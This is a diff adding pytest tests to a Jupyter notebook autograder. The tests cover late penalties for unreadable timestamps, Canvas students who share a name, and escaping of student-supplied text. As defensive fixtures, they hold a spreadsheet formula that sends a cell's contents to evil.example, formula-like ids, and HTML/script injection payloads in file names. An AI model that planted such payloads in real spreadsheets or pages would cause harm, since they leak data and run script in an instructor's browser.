@@ -212,13 +212,17 @@ def test_nbgrader_layout_reads_only_the_assignment_and_never_follows_links(tmp_p
     (subs / "secret").mkdir()
     unreadable(subs / "secret", PS)
     (subs / "secret" / PS / "timestamp.txt").symlink_to("/etc/hostname")
+    unreadable(subs / "unstamped", PS)  # no timestamp.txt at all
     assert grade(subs, out, "--nbgrader-layout", "--due", "2026-01-01 00:00 UTC", "--late-penalty", "50%/day") == 0
     rows = rows_of(out)
     assert rows["only-ps2"]["status"] == "missing" and rows["only-ps2"]["manual_pending"] == "0"
     assert rows["linked"]["status"] == "invalid-notebook" and "symbolic link" in rows["linked"]["detail"]
-    for name in ("stamped", "secret"):  # a time that cannot be read, or a link, is no time: not late
-        assert rows[name]["submitted_at"] == "" and rows[name]["penalty"] == "0"
-        assert rows[name]["late_seconds"] == ""
+    report = (out / "report.html").read_text()
+    for name in ("stamped", "secret", "unstamped"):  # no readable time: taken as submitted when graded, so late
+        assert rows[name]["submitted_at"] and float(rows[name]["late_seconds"]) > 86400
+        assert rows[name]["penalty"] == rows[name]["max_score"]  # 50%/day, more than two days late
+        assert "timestamp.txt" in rows[name]["notes"]
+    assert report.count("taken as submitted when the grader read it") == 3
 
 
 def test_lateness_policy_against_hand_computed_penalties():
@@ -258,7 +262,7 @@ def test_canvas_files_keep_their_user_id_late_marker_and_roster_identity(tmp_pat
     rows = rows_of(out)
     assert {n: (r["id"], r["lms_id"], r["status"]) for n, r in rows.items()} == {
         "smithann": ("asmith", "1001", "invalid-notebook"), "jonesben": ("bjones", "1002", "invalid-notebook"),
-        "nned": ("nned", "", "missing")}
+        "nned": ("nned", "1003", "missing")}  # lms_id from the gradebook, without a file
     assert rows["jonesben"]["penalty"] == "0" and "marks this submission late" in rows["jonesben"]["notes"]
     with sqlite3.connect(course / "gradebook.db") as db:
         assert sorted(r[0] for r in db.execute("SELECT id FROM student")) == ["asmith", "bjones", "nned"]
@@ -294,3 +298,159 @@ def test_an_lms_folder_with_a_subfolder_named_like_the_assignment_is_not_taken_f
     unreadable(subs, "bo")  # bo/ps1-attention.ipynb
     assert grade(subs, out) == 0
     assert {n: r["status"] for n, r in rows_of(out).items()} == {"amy": "invalid-notebook", "bo": "invalid-notebook"}
+
+
+def test_an_unreadable_timestamp_in_a_course_is_late_in_the_gradebook_too(tmp_path):
+    """Issue 35: 8 days late, with timestamp.txt made unreadable, lost nothing. The time taken (the grading
+    time) reaches the gradebook, so nbgrader's export takes the same penalty."""
+    from autograder.course import build
+
+    course = tmp_path / "course"
+    build(course, tmp_path / "exchange", names=[PS], due=[f"{PS}=2026-01-01 00:00 UTC"])
+    unreadable(course / "submitted" / "hid", PS)
+    (course / "submitted" / "hid" / PS / "timestamp.txt").write_bytes(b"\xff\xfe" * 3000)  # too large, not UTF-8
+    assert grader_main(["grade", PS, "--course", str(course), "--workers", "1", "--late-penalty", "10%/day"]) == 0
+    row = rows_of(course / "grader" / PS)["hid"]
+    assert row["penalty"] == row["max_score"] and "timestamp.txt" in row["notes"]
+    with sqlite3.connect(course / "gradebook.db") as db:
+        (stamp,) = db.execute("SELECT timestamp FROM submitted_assignment").fetchone()
+        (penalty,) = db.execute("SELECT late_submission_penalty FROM submitted_notebook").fetchone()
+    assert stamp and stamp > "2026-01-08" and penalty == float(row["max_score"])
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT / "lib"), str(ROOT)])}
+    for step in ("generate_feedback", "release_feedback"):  # nbgrader's own steps read the time it was given
+        done = subprocess.run([sys.executable, "-m", "nbgrader", step, PS], cwd=course, env=env,
+                              capture_output=True, text=True)
+        assert done.returncode == 0 and "ERROR" not in done.stderr, done.stderr[-2000:]
+    assert len(list((tmp_path / "exchange" / "llmarch" / "feedback").glob("*.html"))) == 1
+
+
+# -- Identity from names students choose (Canvas display names, exchange folder names) -------------------------------
+
+def test_canvas_namesakes_are_two_students_keyed_by_their_user_ids(tmp_path, capsys):
+    """Two students named John Smith: Canvas names both files johnsmith_<userid>_...; grouped by the name, one
+    of them vanished and the other was graded from the wrong notebook."""
+    from autograder.course import build
+
+    course, subs, out = tmp_path / "course", tmp_path / "subs", tmp_path / "out"
+    roster = tmp_path / "roster.csv"
+    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n\"Smith, John\",1001,s1,jsmith1,A\n"
+                      "\"Smith, John\",1002,s2,jsmith2,A\n")
+    build(course, tmp_path / "exchange", roster=roster, names=[PS])
+    subs.mkdir()
+    (subs / "johnsmith_1001_5009_ps1-attention.ipynb").write_text("not json")  # 1001's newest is the later id
+    (subs / "johnsmith_1002_5005_ps1-attention.ipynb").write_text("{}")
+    (subs / "johnsmith_1001_5001_ps1-attention.ipynb").write_text("{}")
+    assert grade(subs, out, "--gradebook", str(course / "gradebook.db")) == 0
+    rows = rows_of(out)
+    assert len(rows) == 2 and len(set(rows)) == 2
+    by_lms = {r["lms_id"]: r for r in rows.values()}
+    assert {i: r["id"] for i, r in by_lms.items()} == {"1001": "jsmith1", "1002": "jsmith2"}
+    assert "not valid JSON" in by_lms["1001"]["detail"]  # its own newest file ...
+    assert "no 'cells'" in by_lms["1002"]["detail"]  # ... and the namesake's own, not the other's
+    assert "5009" in by_lms["1001"]["notes"] and "5005" in by_lms["1002"]["notes"]
+    assert "share this name" in capsys.readouterr().err
+    with sqlite3.connect(course / "gradebook.db") as db:
+        assert sorted(r[0] for r in db.execute("SELECT student_id FROM submitted_assignment")) == ["jsmith1", "jsmith2"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_a_formula_as_nbgrader_id_never_reaches_a_spreadsheet(tmp_path, capsys):
+    """nbgrader ids come from folder names in the exchange's inbound/: one named as a formula was written raw in
+    grades.csv's id column and, through the gradebook, in `nbgrader export`. It is refused with a warning; ids
+    the grader makes itself (folder_name) never start like a formula either."""
+    from autograder.course import build
+
+    course = tmp_path / "course"
+    build(course, tmp_path / "exchange", names=[PS])
+    for name in (FORMULA, "+cmd", "@SUM(A1)", "amy"):
+        unreadable(course / "submitted" / name, PS)
+    assert grader_main(["grade", PS, "--course", str(course), "--workers", "1"]) == 0
+    err = capsys.readouterr().err
+    assert err.count("a spreadsheet would read as a formula") == 3
+    with open(course / "grader" / PS / "grades.csv", newline="") as f:
+        table = list(csv.reader(f))
+    assert [r[0] for r in table[1:]] == ["amy"]
+    with sqlite3.connect(course / "gradebook.db") as db:  # what `nbgrader export` writes out
+        assert [r[0] for r in db.execute("SELECT id FROM student")] == ["amy"]
+
+    subs, out = tmp_path / "lms", tmp_path / "out"  # an LMS's folders: the id is folder_name's
+    for name in ("-A1", "-2+3", "amy"):
+        unreadable(subs, name)
+    assert grade(subs, out, "--gradebook", str(tmp_path / "gb" / "gradebook.db")) == 0
+    with open(out / "grades.csv", newline="") as f:
+        cells = [cell for row in list(csv.reader(f))[1:] for cell in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    with sqlite3.connect(tmp_path / "gb" / "gradebook.db") as db:
+        ids = [r[0] for r in db.execute("SELECT id FROM student")]
+    assert len(ids) == 3 and not [i for i in ids if i[:1] in ("=", "+", "-", "@")]
+
+
+# -- What reaches nbgrader's notebooks and pages ----------------------------------------------------------------------
+
+IMG = "<img src=x onerror=alert(1)>.ipynb"
+STYLE = "<style>body{display:none}.ipynb"
+
+
+def test_file_names_and_messages_are_inert_in_nbgraders_feedback_and_the_graders_page(tmp_path):
+    """A detail that lists a student's file names landed as live HTML in the autograded notebook's status cell:
+    generate_feedback's page ran an <img onerror> and a page-wide <style>. Rendered by nbgrader itself here."""
+    from autograder.course import build
+
+    course = tmp_path / "course"
+    build(course, tmp_path / "exchange", names=[PS])
+    folder = course / "submitted" / "mal" / PS
+    folder.mkdir(parents=True)
+    for name in (IMG, STYLE):  # two notebooks, none named as expected: the detail lists both names
+        (folder / name).write_text("{}")
+    (folder / "timestamp.txt").write_text("2026-01-01 00:00:00 UTC")
+    (folder / "submission_secret.txt").write_text("s3cret")
+    assert grader_main(["grade", PS, "--course", str(course), "--workers", "1"]) == 0
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT / "lib"), str(ROOT)])}
+    done = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", PS], cwd=course, env=env,
+                          capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr[-2000:]
+    pages = {"nbgrader": (course / "feedback" / "mal" / PS / "ps1-attention.html").read_text(),
+             "grader": (course / "grader" / PS / "feedback" / "mal" / "ps1-attention.html").read_text()}
+    for where, page in pages.items():
+        assert "&lt;img src=x onerror=alert(1)&gt;" in page, where  # the names are shown ...
+        assert "<img src=x" not in page and "<style>body{display:none}" not in page, where  # ... inert
+
+
+def test_nbgraders_bookkeeping_files_are_not_the_students_extra_files(tmp_path):
+    from autograder.intake import load
+    from autograder.term import nbgrader_submissions
+
+    folder = tmp_path / "submitted" / "amy" / PS
+    folder.mkdir(parents=True)
+    (folder / NB).write_text("{}")
+    for name in ("timestamp.txt", "submission_secret.txt", "helper.py"):
+        (folder / name).write_text("2026-01-01 00:00:00 UTC")
+    found, *_ = nbgrader_submissions(tmp_path / "submitted", PS)
+    assert sorted(load(found["amy"], NB).siblings) == ["helper.py"]
+
+
+def test_the_students_markdown_and_messages_are_inert_in_the_autograded_notebook():
+    """Formgrader renders the autograded notebook in the instructor's Jupyter, where a script could act as the
+    instructor: the student's written answer, own Markdown cells and exception messages are shown as text."""
+    import nbformat
+    from nbconvert import HTMLExporter
+
+    from autograder.grade import SubmissionResult, release_template
+    from autograder.nbfeedback import autograded_notebook
+    from submissions import release, submission
+
+    template, _ = release_template(PS)
+    (manual,) = [i.grade_id for i in template.items if i.kind == "manual"]
+    answer = "My answer: <img src=y onerror=alert(2)> and $x^2$"
+    submitted = submission(PS, NB, answers={manual: answer})
+    submitted.cells.append(nbformat.v4.new_markdown_cell("<style>body{display:none}</style> my own notes"))
+    result = SubmissionResult("eve", "graded", answers={manual: answer},
+                              cell_errors=["ValueError: <script>alert(3)</script>"])
+    notebook = autograded_notebook(release(PS, NB), nbformat.writes(submitted).encode(), result, PS)
+    page, _ = HTMLExporter().from_notebook_node(notebook)
+    assert "&lt;img src=y onerror=alert(2)&gt;" in page and "&lt;script&gt;alert(3)" in page  # shown ...
+    assert "my own notes" in page and "&lt;style&gt;body{display:none}" in page
+    for live in ("<img src=y", "<script>alert(3)", "<style>body{display:none}"):  # ... never live
+        assert live not in page
